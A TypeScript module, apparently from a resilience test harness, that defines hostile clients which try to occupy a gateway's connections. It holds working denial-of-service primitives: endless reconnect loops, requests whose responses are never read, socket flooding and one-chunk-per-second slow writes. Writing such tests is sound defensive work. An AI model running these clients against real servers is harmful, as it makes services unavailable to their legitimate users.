/** Clients that try to occupy an instance. They come from addresses that no other client uses. */
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** Pause before a client connects again, so that the attack itself costs little. */
const RECONNECT_MS = 200;

/** What one client of an attack uses. */
export interface AttackTarget {
  /** Of the gateway. */
  url: string;
  /** Address from which the client connects. */
  localAddress: string;
  /** A public project with a large file. */
  project: {
    id: number;
    /** Full path. */
    path: string;
    branch: string;
    /** Id of the newest commit. */
    tip: string;
  };
  /** Path of the large file. */
  file: string;
  /** A user who may write to the project. */
  user: {
    username: string;
    token: string;
    privateKey: string;
  };
  ssh: {
    host: string;
    port: number;
  };
}

/** An attack: the clients for targets. */
export type Attack = (target: AttackTarget) => HostileClient;

/** Uses one connection until it is closed or `signal` ends it; calls `onOpen` when it is in use. */
export type HostileClient = (signal: AbortSignal, onOpen: () => void) => Promise<void>;

/** A running attack. */
export interface RunningAttack {
  /** Resolved when each client has used a connection or was refused. */
  started: Promise<void>;
  /** Ends all its connections. */
  stop(): Promise<void>;
}

/** Starts clients, each of which connects again whenever its connection has ended. */
export function startAttack(clients: readonly HostileClient[]): RunningAttack {
  const controller = new AbortController();
  const { signal } = controller;
  const repeat = async (client: HostileClient, onOpen: () => void): Promise<void> => {
    while (!signal.aborted) {
      await client(signal, onOpen).catch(() => undefined);
      onOpen();
      await pause(RECONNECT_MS, undefined, { signal }).catch(() => undefined);
    }
  };
  const ends: Promise<void>[] = [];
  const starts = clients.map(
    (client) =>
      new Promise<void>((resolve) => {
        ends.push(repeat(client, resolve));
      }),
  );
  return {
    started: Promise.all(starts).then(() => undefined),
    async stop() {
      controller.abort();
      await Promise.all(ends);
    },
  };
}

/** A client that opens a socket and passes it to `use`. */
export function socketClient({ url, localAddress }: AttackTarget, use: (socket: Socket) => void): HostileClient {
  const { hostname, port } = new URL(url);
  return (signal, onOpen) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress });
    const close = (): void => void socket.destroy();
    signal.addEventListener('abort', close, { once: true });
    return new Promise((resolve) => {
      socket.on('error', close);
      socket.once('close', () => {
        signal.removeEventListener('abort', close);
        resolve();
      });
      socket.once('connect', () => {
        use(socket);
        onOpen();
      });
    });
  };
}

/** The first lines of a request. */
export function requestHead(method: string, path: string, headers: Record<string, string> = {}): string {
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  return `${method} ${path} HTTP/1.1\r\nHost: localhost\r\n${lines.join('')}\r\n`;
}

/** A client that sends a request and never reads the response. */
export function silentClient(target: AttackTarget, text: string): HostileClient {
  return socketClient(target, (socket) => {
    socket.pause();
    socket.write(text);
  });
}

/** Writes chunks as fast as the other side reads them, until the socket closes. */
export function writeEndlessly(socket: Socket, chunk: Buffer): void {
  const write = (): void => {
    while (!socket.destroyed && socket.write(chunk));
  };
  socket.on('drain', write);
  write();
}

/** Writes one chunk a second. */
export function writeSlowly(socket: Socket, chunk: Buffer | string): void {
  const timer = setInterval(() => socket.write(chunk), 1000);
  socket.once('close', () => clearInterval(timer));
}
